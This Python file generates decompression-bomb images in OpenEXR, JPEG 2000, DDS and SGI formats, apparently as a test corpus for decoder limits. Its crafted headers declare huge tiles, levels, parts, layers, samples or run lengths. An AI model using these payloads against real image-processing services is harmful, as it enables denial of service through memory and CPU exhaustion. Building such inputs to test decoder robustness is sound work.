"""Bombs in OpenEXR, JPEG 2000, DDS and SGI whose pixels decode: tiles, levels, parts, layers, deep samples."""

import struct

from boxed import j2k
from layered import attribute, exr
from packing import zeros

CHANNEL = lambda name, kind=2: name + b"\0" + struct.pack("<IIII", kind, 0, 1, 1)
RGB = CHANNEL(b"B") + CHANNEL(b"G") + CHANNEL(b"R") + b"\0"


def packed_rows(side: int) -> bytes:
    """A picture in blocks of 16 rows that are all zeros."""
    head = exr(side, side, RGB)
    blocks = -(-side // 16)
    row = zeros(16 * side * 12)
    places = b"".join(struct.pack("<Q", len(head) + 8 * blocks + n * (8 + len(row))) for n in range(blocks))
    return head + places + b"".join(struct.pack("<iI", 16 * n, len(row)) + row for n in range(blocks))


def tiled(side: int, tile: int, mode: int) -> bytes:
    """Tiles of all levels in the table; each is the same block of zeros."""
    head = exr(side, side, RGB, more=attribute(b"tiles", b"tiledesc", struct.pack("<IIB", tile, tile, mode)), flags=0x200)
    levels = [max(1, side >> level) for level in range(side.bit_length())]
    sizes = [(a, b) for a in levels for b in levels] if mode == 2 else [(a, a) for a in levels] if mode == 1 else [(side, side)]
    count = sum(-(-a // tile) * -(-b // tile) for a, b in sizes)
    block = zeros(tile * tile * 12)
    data = struct.pack("<iiiiI", 0, 0, 0, 0, len(block)) + block
    return head + struct.pack("<Q", len(head) + 8 * count) * count + data


def parts(count: int) -> bytes:
    """A file of as many parts, of which none has pixels."""
    window = struct.pack("<iiii", 0, 0, 63, 63)
    def one(number: int) -> bytes:
        return (attribute(b"channels", b"chlist", RGB) + attribute(b"compression", b"compression", b"\3")
                + attribute(b"dataWindow", b"box2i", window) + attribute(b"displayWindow", b"box2i", window)
                + attribute(b"lineOrder", b"lineOrder", b"\0") + attribute(b"pixelAspectRatio", b"float", b"\0\0\x80\x3f")
                + attribute(b"screenWindowCenter", b"v2f", bytes(8)) + attribute(b"screenWindowWidth", b"float", b"\0\0\x80\x3f")
                + attribute(b"name", b"string", b"p%06d" % number) + attribute(b"type", b"string", b"scanlineimage")
                + attribute(b"chunkCount", b"int", struct.pack("<i", 4)) + b"\0")
    return (b"\x76\x2f\x31\x01" + struct.pack("<I", 2 | 0x1000) + b"".join(one(n) for n in range(count)) + b"\0"
            + bytes(8 * 4 * count))


def sgi(width: int, height: int, channels: int, rows: bytes, length: int) -> bytes:
    """Run lengths, of which all rows share one."""
    head = b"\x01\xda\1\1\0\3" + struct.pack(">HHH", width, height, channels)
    count = height * channels
    return (head.ljust(512, b"\0") + struct.pack(">I", 512 + 8 * count) * count + struct.pack(">I", length) * count
            + rows)


def bombs():
    yield "OpenEXR, 64 MP of zeros", "exr", lambda: packed_rows(8_000)
    yield "OpenEXR, 64 MP in tiles of 16", "exr", lambda: tiled(8_000, 16, 0)
    yield "OpenEXR, 64 MP in tiles and levels", "exr", lambda: tiled(8_000, 64, 1)
    yield "OpenEXR, 64 MP in tiles and levels of each side", "exr", lambda: tiled(8_000, 64, 2)
    yield "OpenEXR, a tile of 60,000 x 60,000", "exr", lambda: exr(
        64, 64, RGB, more=attribute(b"tiles", b"tiledesc", struct.pack("<IIB", 60_000, 60_000, 0)), flags=0x200)
    yield "OpenEXR, 100,000 parts", "exr", lambda: parts(100_000)
    yield "OpenEXR, deep samples", "exr", lambda: exr(8_000, 8_000, RGB, flags=0x800, more=(
        attribute(b"type", b"string", b"deepscanline") + attribute(b"version", b"int", b"\1\0\0\0")
        + attribute(b"maxSamplesPerPixel", b"int", b"\xff\xff\xff\x7f")), tail=bytes(64_000))
    yield "OpenEXR, 4 billion samples of a channel", "exr", lambda: exr(
        64, 64, CHANNEL(b"R")[:-8] + struct.pack("<II", 0x7FFFFFFF, 0x7FFFFFFF) + b"\0")
    yield "JPEG 2000, 33 levels", "j2k", lambda: j2k(8_000, 8_000, 8_000, 3, bytes([0, 0, 0, 1, 0, 32, 4, 4, 0, 1]))
    yield "JPEG 2000, 65,535 layers in 100 tiles", "j2k", lambda: j2k(
        4_000, 4_000, 400, 3, bytes([0, 4, 0xFF, 0xFF, 0, 5, 4, 4, 0, 1]), tiles=100)
    yield "JPEG 2000, 64 MP in tiles of 1,024 without pixels", "j2k", lambda: j2k(8_000, 8_000, 1_024, 3, tiles=255)
    yield "JPEG 2000, 255 components of 4 MP", "j2k", lambda: j2k(2_000, 2_000, 2_000, 255)
    yield "JPEG 2000, a precinct for each pixel on each level", "j2k", lambda: j2k(
        2_000, 2_000, 2_000, 3, bytes([1, 2, 0, 9, 0, 5, 4, 4, 0, 1, 0, 0, 0, 0, 0, 0]))
    side = 16_383
    yield "SGI, 268 MP of one gray, all rows the same", "sgi", lambda: sgi(
        side, side, 1, b"\x7f\0" * 129 + b"\0" * 2, 260)
    yield "SGI, a row of 100 MB for each", "sgi", lambda: sgi(64, 4_096, 4, b"\x7f\0" * 50_000_000, 100_000_000)
    yield "SGI, rows of 16 bits that repeat nothing", "sgi", lambda: sgi(
        64, 30_000, 4, b"\0\1\0\0" * 10_000_000, 40_000_000).replace(b"\x01\xda\1\1", b"\x01\xda\1\2", 1)
    for form, side, size in ((b"DXT1", 16_380, 8), (b"DXT5", 15_000, 16), (b"ATI2", 15_000, 16)):
        yield f"DDS, {side:,} x {side:,} in {form.decode()}", "dds", lambda form=form, side=side, size=size: (
            b"DDS " + struct.pack("<7I44x", 124, 0x81007, side, side, 0, 0, 1)
            + struct.pack("<II4s5I", 32, 4, form, 0, 0, 0, 0, 0) + struct.pack("<5I", 0x1000, 0, 0, 0, 0)
            + bytes(side * side // 16 * size))
